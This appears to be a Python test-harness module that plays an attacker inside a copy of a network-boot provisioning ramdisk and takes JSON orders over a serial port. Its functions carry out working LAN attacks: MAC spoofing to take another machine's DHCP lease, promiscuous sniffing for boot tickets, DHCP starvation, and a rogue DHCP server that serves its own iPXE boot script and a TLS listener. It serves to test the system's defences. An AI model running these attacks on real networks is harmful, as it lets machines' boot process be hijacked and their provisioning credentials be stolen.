"""What runs on the attacker's machine, in the place of our agent, in a copy of our ramdisk.

It does what it is told on its second serial port, a line of JSON each, and answers there. What
it says on its console is searched for secrets afterwards. Imports only what the ramdisk has.
"""

import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from typing import Any, Final, NoReturn

from provisioner.agent.http import Connection, Origin, pinned_context

ORDERS: Final = "/dev/ttyS1"
CA_FILE: Final = "/etc/provisioner/agent-ca.pem"
OWN_KEY: Final = "/etc/attack.pem"
LEASE_SCRIPT: Final = "/etc/provisioner/udhcpc.sh"
NIC: Final = "eth0"
SERVER_PORT, CLIENT_PORT = 67, 68
DISCOVER, OFFER, REQUEST, ACK = 1, 2, 3, 5
MAGIC: Final = b"\x63\x82\x53\x63"
ANSWER_BYTES_MAX: Final = 1 << 20
TICKET: Final = b"provisioner.ticket="
EVERY_FRAME: Final = 3

heard: list[str] = []


def main() -> NoReturn:
    """Serve for ever."""
    sys.stdin.buffer.read()  # /init brings drivers and network up meanwhile
    _busybox(f"stty -F {ORDERS} raw -echo")
    with open(ORDERS, "r+b", buffering=0) as port:
        answer(port.fileno(), {"ready": True})
        pending = b""
        while True:
            pending += os.read(port.fileno(), 65536)
            *lines, pending = pending.split(b"\n")
            for line in lines:
                obey(port.fileno(), json.loads(line))


def obey(port: int, order: dict[str, Any]) -> None:
    name = order.pop("do")
    try:
        result = {"result": ACTIONS[name](**order)}
    except Exception as error:  # noqa: BLE001 - the top of a server: tell, and live on
        result = {"error": f"{type(error).__name__}: {error}"}
    if name != "reveal":
        say(f"{name}: {json.dumps(result)}")
    answer(port, result)


def answer(port: int, value: dict[str, Any]) -> None:
    data = json.dumps(value).encode() + b"\n"
    while data:
        data = data[os.write(port, data) :]


def say(text: str) -> None:
    sys.stderr.write(f"attacker: {text}\n")
    sys.stderr.flush()


# As anybody with the victim's name and papers.


def fetch(url: str, query: str) -> str:
    """Ask the boot listener for a host's boot script, in clear."""
    into = bytearray(ANSWER_BYTES_MAX)
    connection = Connection(Origin.parse(url), timeout_s=10)
    try:
        _, length = connection.request("GET", f"/boot/ipxe?{query}", into=into)
    finally:
        connection.close()
    return into[:length].decode()


def call(url: str, path: str, body: dict[str, Any], token: str = "") -> dict[str, Any]:
    """Make a call of the agent. Of an answer that may hold secrets only the names are told,
    and the token is kept to be used as "mine"."""
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {kept.get(token, token)}"
    into = bytearray(ANSWER_BYTES_MAX)
    connection = Connection(Origin.parse(url), context=pinned_context(CA_FILE), timeout_s=20)
    try:
        status, length = connection.request(
            "POST", path, headers=headers, body=json.dumps(body).encode(), into=into
        )
    finally:
        connection.close()
    found = json.loads(into[:length])
    if "token" in found:
        kept["mine"] = found["token"]
    known = ("code", "detail", "permitted", "generation", "release", "operation", "go_on")
    told = {key: found[key] for key in known if key in found}
    return {"status": status, "names": sorted(found), **told}


kept: dict[str, str] = {}


def claim(url: str, query: str, agent: str, body: dict[str, Any], limit_s: float) -> dict[str, Any]:
    """Ask for the victim's boot script again and again, and come with its ticket at once."""
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        script = fetch(url, query)
        if TICKET.decode() in script:
            ticket = script.partition(TICKET.decode())[2].split()[0]
            return {"ticket": ticket, **call(agent, "/agent/v1/hello", {**body, "ticket": ticket})}
        time.sleep(0.1)
    raise TimeoutError("nobody was given a ticket")


def sniff(limit_s: float) -> str:
    """Listen to all that comes by until there is a ticket in it, and return that."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY_FRAME)) as tap:
        tap.bind((NIC, EVERY_FRAME))
        _busybox(f"ifconfig {NIC} promisc")
        deadline = time.monotonic() + limit_s
        while time.monotonic() < deadline:
            if select.select([tap], [], [], 1)[0]:
                frame = tap.recv(65535)
                if TICKET in frame:
                    return frame.partition(TICKET)[2].split()[0].decode()
    raise TimeoutError("no ticket went by")


def become(mac: str) -> str:
    """Take another machine's MAC, and the address that DHCP gives to that."""
    if _busybox(
        *_with_mac(mac),
        f"ifconfig {NIC} up",
        f"udhcpc -i {NIC} -n -q -t 20 -T 1 -s {LEASE_SCRIPT} > /dev/null 2>&1",
    ):
        raise OSError(f"no lease for {mac}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.77.0.1", 9))
        return str(probe.getsockname()[0])


def be_oneself(mac: str, address: str) -> None:
    """Go back to one's own MAC and address."""
    _busybox(*_with_mac(mac), f"ifconfig {NIC} {address} netmask 255.255.255.0 up")


def _with_mac(mac: str) -> tuple[str, str]:
    return f"ifconfig {NIC} 0.0.0.0 down", f"ifconfig {NIC} hw ether {mac}"


def _busybox(*commands: str) -> int:
    return os.system(" && ".join(f"/bin/busybox {command}" for command in commands))


# As a DHCP server that nobody asked for.


def starve(count: int) -> int:
    """Take leases for so many machines that there are none, and return how many one got."""
    taken = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, NIC.encode())
        client.bind(("", CLIENT_PORT))
        client.settimeout(1)
        for number in range(count):
            mac = bytes([2, 0x66, 0, 0, number >> 8, number & 0xFF])
            offered = _exchange(client, mac, number, DISCOVER, b"")
            if offered is None:
                break
            options = options_of(offered)
            wish = bytes([50, 4]) + offered[16:20] + bytes([54, 4]) + options[54]
            taken += _exchange(client, mac, number, REQUEST, wish) is not None
    return taken


def _exchange(
    client: socket.socket, mac: bytes, number: int, kind: int, more: bytes
) -> bytes | None:
    head = struct.pack("!BBBBIHH", 1, 1, 6, 0, 0x66000000 + number, 0, 0x8000)
    packet = head + bytes(16) + mac.ljust(16, b"\0") + bytes(192) + MAGIC
    client.sendto(packet + bytes([53, 1, kind]) + more + b"\xff", ("255.255.255.255", SERVER_PORT))
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        try:
            reply = client.recv(2048)
        except TimeoutError:
            return None
        if reply[4:8] == packet[4:8]:
            return reply
    return None


def options_of(packet: bytes) -> dict[int, bytes]:
    found: dict[int, bytes] = {}
    rest = packet[240:]
    while rest and rest[0] != 255:
        if rest[0] == 0:
            rest = rest[1:]
            continue
        found[rest[0]] = rest[2 : 2 + rest[1]]
        rest = rest[2 + rest[1] :]
    return found


def rogue(mac: str, own: str, address: str, script: str, ports: list[int]) -> None:
    """Offer the victim an address, this machine as its boot server, and `script` as its boot
    script; and be, with a key of our own, the service that it is then sent to.

    ports are those of the script, and of the false agent listener.
    """
    victim = bytes.fromhex(mac.replace(":", ""))
    for work, args in (
        (_serve_dhcp, (victim, own, address, f"http://{own}:{ports[0]}/boot.ipxe")),
        (_serve_script, (ports[0], script.encode())),
        (_serve_tls, (ports[1],)),
    ):
        threading.Thread(target=work, args=args, daemon=True).start()


def _serve_dhcp(victim: bytes, own: str, address: str, file: str) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, NIC.encode())
    server.bind(("", SERVER_PORT))
    while True:
        packet = server.recv(2048)
        if len(packet) < 240 or packet[28:34] != victim:
            continue
        kind = options_of(packet).get(53, b"\0")[0]
        reply = {DISCOVER: OFFER, REQUEST: ACK}.get(kind)
        if reply is None:
            continue
        heard.append(f"DHCP {kind}")
        head = struct.pack("!BBBB", 2, 1, 6, 0) + packet[4:8] + struct.pack("!HH", 0, 0x8000)
        fixed = head + bytes(4) + socket.inet_aton(address) + socket.inet_aton(own) + bytes(4)
        fixed += packet[28:44] + bytes(64) + file.encode().ljust(128, b"\0") + MAGIC
        options = [(53, bytes([reply])), (54, socket.inet_aton(own)), (51, b"\0\0\x0e\x10")]
        options += [(1, b"\xff\xff\xff\0"), (3, socket.inet_aton(own))]
        # iPXE's own: do not wait for a proxy, and take this offer before all others.
        options += [(175, b"\xb0\x01\x01\x01\x01\x7f")]
        text = b"".join(bytes([number, len(value)]) + value for number, value in options)
        server.sendto(fixed + text + b"\xff", ("255.255.255.255", CLIENT_PORT))


def _serve_script(port: int, script: bytes) -> None:
    server = _listening(port)
    while True:
        client, _ = server.accept()
        with client:
            request = client.recv(4096)
            heard.append("HTTP " + request.splitlines()[0].decode(errors="replace"))
            head = f"HTTP/1.0 200 OK\r\nContent-Length: {len(script)}\r\n\r\n"
            client.sendall(head.encode() + script)


def _serve_tls(port: int) -> None:
    """Take what comes through a handshake with our key; note how it went."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(OWN_KEY)
    server = _listening(port)
    while True:
        client, _ = server.accept()
        client.settimeout(10)
        try:
            with context.wrap_socket(client, server_side=True) as talk:
                heard.append(f"TLS said: {talk.recv(4096)!r}")
        except OSError as error:
            heard.append(f"TLS refused: {error}")


def _listening(port: int) -> socket.socket:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", port))
    server.listen(8)
    return server


ACTIONS: Final[dict[str, Any]] = {
    "become": become,
    "be_oneself": be_oneself,
    "call": call,
    "claim": claim,
    "fetch": fetch,
    "heard": lambda: heard,
    # To be searched for; not said on the console.
    "reveal": lambda: kept["mine"],
    "rogue": rogue,
    "sniff": sniff,
    "starve": starve,
}
